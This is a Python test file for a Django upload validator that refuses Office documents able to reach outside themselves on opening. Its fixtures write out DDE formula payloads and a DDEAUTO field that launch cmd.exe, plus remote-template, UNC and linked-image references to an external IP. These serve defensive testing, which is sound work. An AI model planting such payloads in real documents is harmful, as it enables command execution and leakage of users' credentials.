"""Office files that reach outside themselves when opened are refused like macros: a remote template, a linked
workbook or picture, a DDE formula or field. A plain hyperlink, which only a click follows, is kept."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from openpyxl import Workbook

from ..files import docx_bytes
from .test_uploads import inspect

RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _relationship(kind: str, target: str) -> str:
    return f'<Relationship Id="rId9" Type="{RELATIONSHIP}{kind}" Target="{target}" TargetMode="External"/>'


def _xlsx_with_formula(formula: str) -> bytes:
    workbook = Workbook()
    workbook.active.append(["单位", "人次"])
    workbook.active.append(["区市场监管局", formula])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def _refused(name: str, data: bytes) -> ValidationError:
    with translation.override("zh-hans"), pytest.raises(ValidationError) as refused:
        inspect(name, data)
    return refused.value


def test_a_docx_with_a_remote_template_is_refused():
    settings_rels = RELS.format(_relationship("attachedTemplate", "http://203.0.113.9/template.dotm"))
    refused = _refused("讲稿.docx", docx_bytes(parts={"word/_rels/settings.xml.rels": settings_rels}))
    assert refused.code == "external" and "外部" in refused.messages[0]


@pytest.mark.parametrize(
    "kind,target",
    [
        ("externalLinkPath", "file://///203.0.113.9/share/budget.xlsx"),
        ("image", "http://203.0.113.9/pixel.png"),
        ("oleObject", "\\\\203.0.113.9\\share\\x.bin"),
    ],
)
def test_any_external_relationship_but_a_hyperlink_is_refused(kind, target):
    data = docx_bytes(parts={"word/_rels/document.xml.rels": RELS.format(_relationship(kind, target))})
    assert _refused("讲稿.docx", data).code == "external"


def test_a_hyperlink_is_not_an_external_fetch_and_is_accepted():
    link = _relationship("hyperlink", "https://www.moj.gov.cn/")
    data = docx_bytes(parts={"word/_rels/document.xml.rels": RELS.format(link)})
    assert inspect("讲稿.docx", data).name == "讲稿.docx"


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        '=DDE("cmd","/c calc","x")',
    ],
)
def test_an_xlsx_with_a_dde_formula_is_refused(formula):
    assert _refused("台账.xlsx", _xlsx_with_formula(formula)).code == "dde"


def test_an_ordinary_formula_with_a_pipe_in_a_string_is_accepted():
    data = _xlsx_with_formula('=CONCATENATE("甲|乙", "丙")')
    assert inspect("台账.xlsx", data).name == "台账.xlsx"


def test_a_docx_with_a_ddeauto_field_is_refused():
    field = '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>'
    document = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>{field}</w:r></w:p></w:body></w:document>'
    )
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source, zipfile.ZipFile(output, "w") as package:
        for info in source.infolist():
            package.writestr(info.filename, document if info.filename == "word/document.xml" else source.read(info))
    assert _refused("讲稿.docx", output.getvalue()).code == "dde"
